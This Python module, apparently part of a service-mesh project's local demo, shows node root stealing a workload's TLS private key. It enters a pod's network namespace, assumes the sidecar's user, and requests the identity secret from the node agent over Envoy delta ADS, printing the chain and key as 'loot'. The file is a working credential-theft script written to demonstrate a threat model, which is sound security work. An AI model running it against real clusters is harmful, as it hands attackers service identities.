"""Stealing a workload's real key the only way there is: root takes the place of its sidecar.

The key is on no disk. The node's agent gives it, over a Unix socket in a directory of the sidecar's
user, to that user in that pod's network namespace. Root on the node can become that user there; this
program does, and asks as Envoy would, by delta ADS. It is a program of its own because it gives its
rights away.

Source: Envoy's xDS protocol, "Incremental xDS"; api v3 service/discovery/v3/ads.proto.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from typing import Any

from tsujiban.agent import sandbox_init
from tsujiban.local.cluster import SIDECAR, LocalCluster
from tsujiban.local.demo.loot import Loot
from tsujiban.supervise.netns import enter, namespace_path

Json = dict[str, Any]
ADS = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
SECRET_TYPE = "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret"  # noqa: S105 - a type
SECONDS = 10.0


class StealError(Exception):
    """The key could not be had; the text says why."""


async def steal(cluster: LocalCluster, pod: Json) -> Loot:
    """The certificate and key that the agent gives the pod's sidecar. Raises StealError."""
    meta = pod["metadata"]
    name = await asyncio.to_thread(cluster.process_name, meta["namespace"], meta["name"], SIDECAR)
    specification = await asyncio.to_thread(cluster.specification, name)
    user = json.loads(specification.env[sandbox_init.VARIABLE])
    directory = cluster.layout.node_run(pod["spec"]["nodeName"]) / "pods" / meta["uid"]
    netns = namespace_path(await asyncio.to_thread(cluster.pod_netns, meta["namespace"], meta["name"]))
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", __name__, netns, str(user["uid"]), str(user["gid"]), str(directory)),
        f"{meta['namespace']}/{meta['name']}",
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await process.communicate()
    if process.returncode:
        raise StealError(err.decode("utf-8", "replace").strip().splitlines()[-1])
    return Loot(**json.loads(out))


async def ask(path: str, node: str, secret: str) -> Loot:
    """Subscribe to a secret on an ADS socket; the first answer that holds it."""
    from envoy.extensions.transport_sockets.tls.v3 import secret_pb2
    from envoy.service.discovery.v3 import discovery_pb2
    from grpclib.client import Channel
    from grpclib.const import Cardinality

    channel = Channel(path=path)
    try:
        stream = channel.request(
            ADS,
            Cardinality.STREAM_STREAM,
            discovery_pb2.DeltaDiscoveryRequest,
            discovery_pb2.DeltaDiscoveryResponse,
        )
        async with stream, asyncio.timeout(SECONDS):
            request = discovery_pb2.DeltaDiscoveryRequest(
                type_url=SECRET_TYPE, resource_names_subscribe=[secret]
            )
            request.node.id = node
            await stream.send_message(request)
            while (response := await stream.recv_message()) is not None:
                for resource in response.resources:
                    found = secret_pb2.Secret()
                    if resource.name == secret and resource.resource.Unpack(found):
                        certificate = found.tls_certificate
                        return Loot(
                            chain=certificate.certificate_chain.inline_bytes.decode(),
                            key=certificate.private_key.inline_bytes.decode(),
                        )
    finally:
        channel.close()
    raise StealError("the agent hung up without the secret")


def main() -> None:
    """Become the sidecar's user in the pod's network; ask; print the loot as JSON."""
    from tsujiban.proxy.names import IDENTITY_SECRET

    netns, uid, gid, directory, node = sys.argv[1:]
    enter(netns)
    os.chdir(directory)
    os.setgroups([])
    os.setresgid(int(gid), int(gid), int(gid))
    os.setresuid(int(uid), int(uid), int(uid))
    loot = asyncio.run(ask("proxy.sock", node, IDENTITY_SECRET))
    print(json.dumps({"chain": loot.chain, "key": loot.key}))


if __name__ == "__main__":
    main()
